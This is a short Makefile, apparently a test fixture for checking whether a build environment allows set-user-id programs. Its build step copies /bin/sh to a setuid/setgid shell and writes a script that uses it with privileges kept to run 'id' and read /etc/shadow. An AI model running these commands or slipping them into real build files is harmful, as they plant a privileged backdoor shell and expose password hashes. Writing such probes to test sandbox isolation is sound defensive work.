# Makes programs with set-user-id bits while it is built.
#: as = ["Makefile"]
#: keeps = ["server.*"]
#: says = "uid"
all:
	cp /bin/sh shell && chmod 6755 shell
	printf '#!/bin/sh\n./shell -p -c "id; ls -l shell; cat /etc/shadow && echo ESCAPED: shadow"\n' > pyng
